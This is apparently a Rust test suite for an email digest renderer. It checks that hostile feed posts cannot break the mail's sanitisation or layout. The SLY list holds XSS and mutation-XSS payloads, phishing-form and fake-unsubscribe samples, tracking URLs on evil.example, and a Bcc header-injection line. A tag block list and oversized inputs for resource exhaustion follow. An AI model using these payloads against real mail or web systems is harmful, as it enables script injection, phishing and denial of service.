//! Posts made to break the mail around them or the process that reads them. Each goes the whole way: feed, sanitiser, digest.
//!
//! What holds them, in the order that they meet it: a post is at most 1 MiB of HTML; markup whose parsing would cost more than its
//! length is stripped to its words; structure below 120 elements is given up; an allow-list names what may stay; what a mail
//! cannot lay out is told by its excerpt, and 100 000 bytes are the most that a mail's HTML has.

use letterbell::feed::parse::read;
use letterbell::render::holes::{Escape, Hole, HoleValues};
use letterbell::render::mail::Edition;
use letterbell::render::templates::Templates;
use letterbell::render::views::{DigestView, PostView};
use scraper::{ElementRef, Html, Selector};
use url::Url;

use crate::english;

const LEAVE: &str = "https://mail.example/u/1";

/// Posts that try to run something, to cover the mail, or to pass for a part of it. Each says `before` and `after`.
const SLY: &[(&str, &str)] = &[
    ("scripts", "<script>alert(1)</script><script src=//evil.example/x.js></script>"),
    (
        "handlers",
        "<img src=/x.png onerror=alert(1)><p onclick=alert(1) onmouseover=alert(1)>x</p><body onload=alert(1)>",
    ),
    ("svg", "<svg><script>alert(1)</script><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>"),
    ("svg title", "<svg></p><title><style><img src=1 onerror=alert(1)></style></title></svg>"),
    (
        "math",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></table></mtext></math>",
    ),
    (
        "math annotation",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    ),
    ("mutation", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form>"),
    ("noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"),
    (
        "template",
        "<template><script>alert(1)</script></template><select><template><img src=x onerror=alert(1)></template></select>",
    ),
    ("comment", "<!--><img src=x onerror=alert(1)>--><!--[if mso]><table><tr><td><![endif]--><!-- --!><i>x</i>"),
    (
        "cover",
        "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999;background:url(//evil.example/t.gif)'>x</div>",
    ),
    ("margins", "<p style='margin-top:-5000px;line-height:0;transform:scale(99);font-size:900px'>x</p>"),
    (
        "style sheet",
        "<style>.foot,.cell{display:none!important} body{background:url(//evil.example/t)}</style><link rel=stylesheet href=//evil.example/x.css>",
    ),
    (
        "old attributes",
        "<table width=99999 height=99999 background=//evil.example/t.gif bgcolor=red><tr><td background=//evil.example/t.gif>x</td></tr></table>",
    ),
    ("huge picture", "<img src=/x.png width=9999 height=999999 style='width:99999px' hspace=9999>"),
    ("classes", "<div class='foot cell sheet'>x</div><a class='press' id='leave' href=/x>x</a><p name=leave>y</p>"),
    (
        "form",
        "<form action=//evil.example><p>Confirm your address to stay subscribed</p><input type=email name=email><button>Unsubscribe</button></form>",
    ),
    (
        "fake way to leave",
        "<a href='https://evil.example/u/1'>Unsubscribe</a><a href='{{ unsubscribe_url }}'>leave</a>",
    ),
    ("closing tags", "</div></td></tr></table></div></body></html><table><tr><td>x"),
    ("open tags", "<div><b><i><a href=/x><table><tr><td><ul><li><blockquote>x"),
    (
        "marks",
        "\u{E001}\u{E002}\u{F8FF}&#xE001;&#57346;<a href='\u{E001}'>x</a><img src='/\u{E001}.png' alt='\u{E002}'>",
    ),
    (
        "templates",
        "{{ 7*7 }}{% raw %}{{ unsubscribe_url }}{% endraw %}{# x #}[[name]] %%unsubscribe%% ${7*7} <%= 7*7 %> |UNSUB|",
    ),
    (
        "schemes",
        "<a href='javascript:alert(1)'>x</a><a href='&#1;javascript:alert(1)'>x</a><a href='data:text/html,<script>'>x</a><a href='vbscript:x'>x</a><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    ),
    (
        "frames",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'><frameset><frame src=//evil.example></frameset>",
    ),
    ("meta", "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/><title>x</title>"),
    ("controls", "a\u{0}b\u{7}c\u{1b}[31md\u{85}e\r\n.\r\nBcc: eve@evil.example\r\n\r\nf"),
    ("direction", "\u{202E}leave\u{202D} \u{2067}x\u{2066}y <bdo dir=rtl>z</bdo>"),
    ("mail", "\n.\n\nFrom eve\n-- \n--boundary\nContent-Type: text/html\n\n=00=3D"),
];

/// Posts that try to cost more than they weigh.
fn heavy() -> Vec<(&'static str, String)> {
    let attributes: String = (0..60_000).map(|n| format!(" a{n}={n}")).collect();
    let rows = "<tr><td colspan=1000 rowspan=65534>x</td><td>y</td></tr>".repeat(3000);
    vec![
        ("10 MB of nesting", "<div>".repeat(2_000_000)),
        ("10 MB of formatting", "<b>x".repeat(2_500_000)),
        ("nesting within the limit", "<div><span><blockquote>".repeat(80)),
        ("deep lists", format!("{}x", "<ul><li>y".repeat(250))),
        ("deep quotes", format!("{}x", "<blockquote>y".repeat(250))),
        ("deep tables", format!("{}x", "<table><tr><td>y".repeat(250))),
        ("many deep lists", format!("{}x{}", "<ul><li>y".repeat(60), "</li></ul>".repeat(60)).repeat(400)),
        ("a long attribute", format!("<p title='{0}'>x</p><img src='/x.png' alt='{0}'>", "y".repeat(1 << 20))),
        ("a long address", format!("<a href='https://example.org/{}'>x</a>", "y".repeat(500_000))),
        ("many attributes", format!("<p{attributes}>x</p>")),
        ("a long word", "x".repeat(1 << 20)),
        ("a long line of code", format!("<pre>{}</pre>", "x ".repeat(400_000))),
        ("many links", "<a href=/x>y</a> ".repeat(50_000)),
        ("many buttons", "<div class='wp-block-file'><a class='wp-block-file__button' href=/x>y</a>".repeat(10_000)),
        ("many pictures", "<img src=/x.png alt=y>".repeat(40_000)),
        ("spanning cells", format!("<table>{rows}</table>")),
        ("wide table", format!("<table><tr>{}</tr></table>", "<td>x</td>".repeat(50_000))),
        ("formulas", "<math><mfrac><msqrt>".repeat(80) + "<mi>x</mi>"),
        ("unseen characters", "a\u{200B}\u{2060}\u{FEFF}".repeat(150_000)),
        ("a run of unseen characters", format!("a{}b", "\u{200B}".repeat(300_000))),
        ("towers of marks", format!("a{}", "\u{301}".repeat(400_000))),
        ("definitions", "<dl><dt>x<dd>y".repeat(200)),
        (
            "footnotes",
            (0..20_000).map(|n| format!("<sup id=r{n}><a href=#n{n}>{n}</a></sup><p id=n{n}>x</p>")).collect(),
        ),
    ]
}

/// A post as a feed brings it, between two words of its own.
fn post(html: &str) -> PostView {
    let body = format!("<p>before</p>{html}<p>after</p>").replace("]]>", "]]&gt;");
    let feed = format!(
        "<rss version='2.0'><channel><title>T</title><link>https://blog.example.org/</link><item><guid>1</guid><title>Sly</title>\
         <link>https://blog.example.org/sly</link><description><![CDATA[{body}]]></description></item></channel></rss>"
    );
    of_feed(feed.as_bytes())
}

fn of_feed(feed: &[u8]) -> PostView {
    let post = read(feed, &Url::parse("https://blog.example.org/feed").unwrap()).unwrap().posts.remove(0);
    PostView {
        title: post.title,
        link: post.link,
        html: post.html,
        excerpt: post.excerpt,
        ..PostView::samples().remove(1)
    }
}

/// A digest with a hostile post between two others.
fn digest(hostile: PostView) -> Edition {
    let [first, last]: [PostView; 2] = PostView::samples().try_into().unwrap();
    let view = DigestView { posts: vec![first, hostile, last], ..DigestView::sample() };
    Templates::load(None).unwrap().digest(&view, english()).unwrap()
}

fn select(selector: &str) -> Selector {
    Selector::parse(selector).unwrap()
}

/// Whatever the post, the mail around it is the same.
fn is_unbroken(what: &str, edition: &Edition) -> (String, String) {
    let values =
        HoleValues { unsubscribe_url: LEAVE.to_owned(), preferences_url: "https://mail.example/p/1".to_owned() };
    let (html, plain) = (edition.html.fill(&values, Escape::Html), edition.text.fill(&values, Escape::None));
    assert!(html.len() <= 100_200, "{what}: {} bytes", html.len());
    assert!(plain.len() <= 1_000_000, "{what}: {} bytes of text", plain.len());
    let tree = Html::parse_document(&html);
    let count = |selector: &str| tree.select(&select(selector)).count();
    assert_eq!(
        (count(".post"), count(".foot"), count("h1"), count("html"), count("body")),
        (3, 1, 1, 1, 1),
        "{what}\n{html}"
    );
    let titles: Vec<String> = tree.select(&select(".post > h2")).map(|title| title.text().collect()).collect();
    assert_eq!(titles, ["The ferry that waits", "Sly", "How to oil a bell"], "{what}");
    // The way to leave stands in the footer, outside of all posts, and leads where it should.
    let leave: Vec<ElementRef<'_>> =
        tree.select(&select("a")).filter(|link| link.attr("href") == Some(LEAVE)).collect();
    assert!(!leave.is_empty(), "{what}");
    for link in leave {
        let within: Vec<&str> =
            link.ancestors().filter_map(ElementRef::wrap).filter_map(|above| above.attr("class")).collect();
        assert!(!within.iter().any(|class| class.contains("post")), "{what}: {within:?}");
    }
    assert!(plain.trim_end().lines().rev().take(12).any(|line| line == LEAVE), "{what}: {plain:.300}");
    let posts = select(".post *");
    for element in tree.select(&posts) {
        let name = element.value().name();
        let is_bad = [
            "script", "style", "form", "input", "button", "textarea", "select", "iframe", "object", "embed", "svg",
            "math", "link", "meta", "base", "title", "template", "frame", "frameset",
        ];
        assert!(!is_bad.contains(&name), "{what}: {name}");
        for (attribute, value) in element.value().attrs() {
            assert!(
                !attribute.starts_with("on") && !matches!(attribute, "id" | "name" | "background" | "srcset"),
                "{what}: {attribute}"
            );
            let is_address = matches!(attribute, "href" | "src");
            assert!(
                !is_address || ["https://", "http://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                "{what}: {value:.99}"
            );
            let style = if attribute == "style" { value } else { "" };
            for sly in ["url(", "position", "fixed", "z-index", "-50", "9999", "transform", "display:none", "opacity"] {
                assert!(!style.contains(sly), "{what}: {style}");
            }
        }
    }
    for text in [&html, &plain] {
        let is_foreign = |c: char| {
            c.is_control() && !matches!(c, '\n' | '\t')
                || matches!(c, '\u{E000}'..='\u{F8FF}' | '\u{202D}' | '\u{202E}')
        };
        assert!(!text.contains(is_foreign), "{what}");
        assert!(!text.contains("evil.example/t"), "{what}");
    }
    (html, plain)
}

#[test]
fn sly_posts_leave_the_mail_as_it_was() {
    for (what, sly) in SLY {
        let edition = digest(post(sly));
        let (html, plain) = is_unbroken(what, &edition);
        // A form goes with what is in it, and this one is never closed.
        let swallows_the_rest = *what == "mutation";
        for part in [&html, &plain] {
            assert!(part.contains("before") && (part.contains("after") || swallows_the_rest), "{what}\n{plain}");
        }
    }
}

#[test]
fn heavy_posts_leave_the_mail_as_it_was() {
    for (what, heavy) in heavy() {
        let edition = digest(post(&heavy));
        let (html, plain) = is_unbroken(what, &edition);
        assert!(html.contains("before") && plain.contains("before"), "{what}");
    }
}

#[test]
fn what_looks_like_a_template_or_a_personal_part_arrives_as_written() {
    let (_, templates) = SLY.iter().find(|(what, _)| *what == "templates").unwrap();
    let edition = digest(post(templates));
    let (html, plain) = is_unbroken("templates", &edition);
    for written in [
        "{{ 7*7 }}",
        "{% raw %}{{ unsubscribe_url }}{% endraw %}",
        "{# x #}",
        "[[name]]",
        "%%unsubscribe%%",
        "${7*7}",
        "|UNSUB|",
    ] {
        assert!(html.contains(written) && plain.replace('\n', " ").contains(written), "{written}\n{plain}");
    }
    let marks = |part: &letterbell::render::holes::Cut| {
        let stored = part.to_stored();
        [Hole::UnsubscribeUrl, Hole::PreferencesUrl].map(|hole| stored.matches(hole.mark()).count())
    };
    let calm = digest(post("calm"));
    let (_, sly) = SLY.iter().find(|(what, _)| *what == "marks").unwrap();
    let sly = digest(post(sly));
    assert_eq!((marks(&sly.html), marks(&sly.text)), (marks(&calm.html), marks(&calm.text)));
}

#[test]
fn bytes_that_are_no_text_leave_the_mail_as_it_was() {
    let feed = |body: &[u8]| {
        let start = b"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>T</title><item><guid>1</guid><title>Sly</title><description><![CDATA[<p>before ";
        [start.as_slice(), body, b" after</p>]]></description></item></channel></rss>"].concat()
    };
    for body in [
        &b"\xff\xfe\x00"[..],
        b"\xc3\x28 \xe2\x82 \xf0\x90\x28\xbc",
        b"\xed\xa0\x80\xed\xbf\xbf",
        b"\xf4\x90\x80\x80",
        b"\x80\x80\x80",
    ] {
        let (html, plain) = is_unbroken("bytes", &digest(of_feed(&feed(body))));
        assert!(html.contains("before") && html.contains("after") && plain.contains("after"), "{plain}");
    }
}

#[test]
fn a_digest_of_hostile_posts_alone_renders_in_full() {
    let posts: Vec<PostView> = SLY.iter().map(|(_, sly)| post(sly)).collect();
    let view = DigestView { posts, ..DigestView::sample() };
    let edition = Templates::load(None).unwrap().digest(&view, english()).unwrap();
    let tree = Html::parse_document(&edition.html.to_stored());
    assert_eq!(tree.select(&select(".post")).count(), SLY.len());
    assert_eq!(tree.select(&select(".foot")).count(), 1);
}
